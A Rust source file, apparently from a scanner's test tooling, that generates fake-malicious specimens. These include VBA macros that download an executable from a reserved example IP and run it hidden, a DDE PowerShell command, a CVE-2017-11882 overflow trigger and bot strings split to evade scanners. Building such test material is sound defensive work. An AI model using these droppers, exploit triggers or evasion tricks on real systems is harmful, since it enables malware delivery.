//! Generates harmless files that look malicious, no two the same.
//!
//! Their suspicious strings are assembled at run time, so that scanners do not flag this program. All addresses are
//! from the networks that RFC 5737 reserves for examples.

use specimens::cfb::CfbBuilder;
use specimens::elf::upx_like;
use specimens::ooxml::{docm, docx, field, word, xlsm};
use specimens::pe::{CODE, DATA, pe, plain_code};
use specimens::rtf;
use specimens::vba::VbaBuilder;

/// Number of file types.
const SORTS: u64 = 10;
/// Number of bits encoded as white space after the EICAR test file, which may be followed by up to 60 bytes of it.
const WHITE_BITS: u32 = 32;

/// Returns the extension and the bytes of the `nth` file.
pub fn suspicious(nth: u64) -> (&'static str, Vec<u8>) {
    match nth % SORTS {
        0 => ("com", eicar(nth)),
        1 => ("elf", bot(nth)),
        2 => ("exe", injector(nth)),
        3 => ("docm", docm().vba_project(&dropper(nth).bin()).build()),
        4 => ("doc", dropper(nth).doc()),
        5 => ("rtf", rtf::rtf(&format!("{{\\*\\template {}}}", address(nth, "t.dotm")))),
        6 => ("docx", dde(nth)),
        7 => ("rtf", equation(nth)),
        8 => ("xlsm", xlsm().vba_project(&downloader(nth).bin()).build()),
        _ => ("xls", downloader(nth).xls()),
    }
}

/// The EICAR test file followed by white space, which its definition allows.
fn eicar(nth: u64) -> Vec<u8> {
    let mut file = specimens::eicar();
    file.extend((0..WHITE_BITS).map(|bit| if nth >> bit & 1 == 1 { b'\t' } else { b' ' }));
    file
}

/// A packed ELF file with strings of bots.
fn bot(nth: u64) -> Vec<u8> {
    let words = [
        ["UDP", "FLOOD"].concat(),
        ["HTTP", "HEX"].concat(),
        ["STO", "MP"].concat(),
        ["/bin/", "busybox"].concat(),
        ["chmod 777 ", "bins.sh"].concat(),
        ["/proc/net", "/tcp"].concat(),
        "GET /%s HTTP/1.1\r\n".to_owned(),
        format!("build {nth}"),
    ];
    upx_like().upx_magic().overlay(words.join("\0")).build()
}

/// A PE file that imports the APIs of process injection.
fn injector(nth: u64) -> Vec<u8> {
    let apis = [["Open", "Process"], ["Virtual", "AllocEx"], ["WriteProcess", "Memory"], ["CreateRemote", "Thread"]];
    let apis = apis.map(|parts| parts.concat());
    pe().section(".text", CODE, plain_code(4096))
        .section(".data", DATA, [&nth.to_le_bytes()[..], &[0; 504]].concat())
        .import("kernel32.dll", &apis.each_ref().map(String::as_str))
        .build()
}

/// A macro that downloads and runs a program.
fn dropper(nth: u64) -> VbaBuilder {
    let address = address(nth, "u.exe");
    let source = [
        "Private Sub Document",
        "_Open()\r\nDim target As String\r\ntarget = Environ(\"TEMP\") & \"\\update.exe\"\r\nShell \"power",
        "shell -w hid",
        "den -c (New-Object Net.Web",
        "Client).Download",
        "File('",
        address.as_str(),
        "','\" & target & \"')\", 0\r\nShell target, vb",
        "Hide\r\nEnd Sub\r\n",
    ];
    VbaBuilder::new().document("ThisDocument", &source.concat())
}

/// A similar macro for workbooks, with other APIs.
fn downloader(nth: u64) -> VbaBuilder {
    let address = address(nth, "a.exe");
    let source = [
        "Sub Workbook",
        "_Open()\r\nSet http = CreateObject(\"MSXML2.XML",
        "HTTP\")\r\nhttp.Open \"GET\", \"",
        address.as_str(),
        "\", False\r\nhttp.Send\r\nSet stream = CreateObject(\"ADODB.",
        "Stream\")\r\nstream.Type = 1: stream.Open: stream.Write http.Response",
        "Body\r\nstream.SaveTo",
        "File Environ(\"APPDATA\") & \"\\a.exe\", 2\r\nCreateObject(\"WScript.",
        "Shell\").Run Environ(\"APPDATA\") & \"\\a.exe\", 0\r\nEnd Sub\r\n",
    ];
    VbaBuilder::new().document("ThisWorkbook", &source.concat())
}

/// A DDE field that starts a command.
fn dde(nth: u64) -> Vec<u8> {
    let number = nth.to_string();
    let instruction =
        ["DDE", "AUTO c:\\\\windows\\\\system32\\\\cmd", ".exe \"/k power", "shell -c calc", number.as_str(), "\""]
            .concat();
    docx().part("word/document.xml", word(&field(&[instruction.as_str()])).as_bytes()).build()
}

/// An equation whose font name overflows its buffer (CVE-2017-11882), without a payload.
fn equation(nth: u64) -> Vec<u8> {
    let mut native = vec![0; 28];
    native[0] = 28;
    native.extend([3, 1, 1, 3, 10, 0x0a, 1, 8, 0x5a, 0x5a]);
    native.extend([b'A'; 60]);
    native.extend(nth.to_string().bytes());
    let class = "0002CE02-0000-0000-C000-000000000046";
    let inner = CfbBuilder::new().class(class).stream("Equation Native", &native).build();
    rtf::rtf(&rtf::object("\\objupdate", &rtf::ole1("Equation.3", &inner)))
}

/// A URL where nothing answers.
fn address(nth: u64, file: &str) -> String {
    format!("http://198.51.100.{}/{nth}/{file}", nth % 254 + 1)
}

#[cfg(test)]
mod tests {
    use std::collections::BTreeSet;

    use daemon_engine::{Cancel, Limits, RuleSet, assemble, examine};

    use super::*;

    #[test]
    fn no_two_are_the_same() {
        let all: BTreeSet<Vec<u8>> = (0..200).map(|nth| suspicious(nth).1).collect();
        assert_eq!(all.len(), 200);
    }

    #[test]
    fn all_of_them_look_bad_without_any_rule() {
        let rules = RuleSet::embedded();
        for nth in 0..SORTS {
            let (ending, bytes) = suspicious(nth);
            let report = examine(&bytes, &mut assemble(&rules), &Limits::default(), &Cancel::default());
            assert!(report.opinion.p_malicious > 0.5, "{nth}.{ending}: p = {}", report.opinion.p_malicious);
        }
    }
}
